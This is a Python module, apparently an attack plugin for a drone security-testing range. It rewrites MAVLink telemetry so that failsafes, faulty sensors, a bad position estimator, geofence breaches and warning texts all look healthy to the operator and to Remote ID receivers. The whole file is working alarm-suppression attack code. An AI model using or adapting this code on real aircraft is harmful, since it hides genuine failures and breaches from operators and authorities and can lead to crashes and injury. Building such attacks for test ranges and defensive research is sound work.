"""Hidden failures: reports of failsafes, faulty sensors and a bad estimator, made to look like a healthy aircraft's."""

from __future__ import annotations

from typing import Any, Final

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.telemetry import VARIANCES
from skyrange.codec.mavlink import dialect as mav

HEALTHY_VARIANCE: Final = 0.1
"""Largest variance (normalised innovation) that is reported; ground stations warn from 0.5 (Mission Planner)."""
HEALTHY_FLAGS: Final = (
    mav.EKF_ATTITUDE | mav.EKF_VELOCITY_HORIZ | mav.EKF_VELOCITY_VERT | mav.EKF_POS_HORIZ_REL | mav.EKF_POS_HORIZ_ABS
    | mav.EKF_POS_VERT_ABS | mav.EKF_PRED_POS_HORIZ_REL | mav.EKF_PRED_POS_HORIZ_ABS
)  # fmt: skip
"""Flags of an estimator with a position."""


@sky.attack(
    "telemetry.hide_failures",
    technique="T0878",
    effect="neither operator nor Remote ID receivers learn of a failsafe",
    knowledge="the messages that report failures",
)
class HiddenFailures(sky.AlteredTelemetry):
    """Hides failures in telemetry: status, sensor health, estimator, fence and warnings.

    All reports of failures are made harmless. Warnings and errors are blanked; their frames stay.
    """

    sees = ("HEARTBEAT", "SYS_STATUS", "EKF_STATUS_REPORT", "FENCE_STATUS", "STATUSTEXT")

    def alter(self, message: str, fields: Any, since_ns: sky.Time) -> bool:
        match message:
            case "HEARTBEAT" if fields["system_status"] >= mav.MAV_STATE_CRITICAL:
                armed = fields["base_mode"] & mav.MAV_MODE_FLAG_SAFETY_ARMED
                sky.put(fields, "system_status", mav.MAV_STATE_ACTIVE if armed else mav.MAV_STATE_STANDBY)
            case "SYS_STATUS":
                fields["onboard_control_sensors_health"] |= fields["onboard_control_sensors_enabled"]
            case "EKF_STATUS_REPORT":
                sky.put(fields, "flags", HEALTHY_FLAGS)
                for name in VARIANCES:
                    sky.put(fields, name, min(float(fields[name]), HEALTHY_VARIANCE))
            case "FENCE_STATUS":
                sky.put(fields, "breach_status", 0)
                sky.put(fields, "breach_type", mav.FENCE_BREACH_NONE)
            case "STATUSTEXT" if fields["severity"] <= mav.MAV_SEVERITY_WARNING:
                sky.put(fields, "severity", mav.MAV_SEVERITY_DEBUG)
                fields["text"] = b""
        return True
